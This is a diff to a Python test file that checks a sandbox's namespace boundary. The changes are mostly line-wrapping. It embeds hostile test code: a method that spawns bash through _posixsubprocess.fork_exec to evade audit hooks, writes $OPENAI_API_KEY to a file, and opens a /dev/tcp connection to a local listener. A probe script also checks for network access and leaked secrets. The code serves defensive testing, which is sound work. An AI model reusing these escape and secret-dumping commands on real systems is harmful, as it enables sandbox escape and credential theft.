@@ -26,7 +26,8 @@ from tests.support.procs import descendants
 
 CANARY = "sk-canary-must-never-leak-0123456789"
 
-HOSTILE_OS_CODE = r'''
+HOSTILE_OS_CODE = (
+    r'''
 import os, json, struct
 
 class Escaper:
@@ -42,7 +43,8 @@ class Escaper:
     def fork_exec_shell(self, target: str, port: int):
         """Runs a shell through _posixsubprocess.fork_exec, which no audit hook sees."""
         import _posixsubprocess
-        script = f"touch {target}; echo $OPENAI_API_KEY > {target}.key; exec 3<>/dev/tcp/127.0.0.1/{port}; echo hi >&3; sleep 60 &"
+        script = f"touch {target}; echo $OPENAI_API_KEY > {target}.key; exec 3<>/dev/tcp/127.0.0.1/{port}; '''
+    r'''echo hi >&3; sleep 60 &"
         r, w = os.pipe()
         pid = _posixsubprocess.fork_exec(
             ["/bin/bash", "-c", script], [b"/bin/bash"], True, (), None, None,
@@ -127,6 +129,7 @@ class Escaper:
         time.sleep(seconds)
         return {"success": True}
 '''
+)
 
 
 def _spec():
@@ -223,7 +226,8 @@ def test_the_namespace_boundary_holds_without_seccomp(listener, tmp_path, monkey
         f"""
         echo "env: $(env | grep -c CANARY_NEVER || true) $OPENAI_API_KEY"
         (exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected) 2>/dev/null || echo no-network
-        for p in {data_root} {os.path.expanduser("~")}/.bashrc {Path.cwd()}/data {Path.cwd()}/.dagster_home {Path.cwd()}/README.md {Path.cwd()}/pipeline; do
+        for p in {data_root} {os.path.expanduser("~")}/.bashrc {Path.cwd()}/data {Path.cwd()}/.dagster_home \
+{Path.cwd()}/README.md {Path.cwd()}/pipeline; do
             [ -e "$p" ] && echo "visible $p"
         done
         echo "home: $(ls -A /root 2>/dev/null | tr '\n' ' ')"
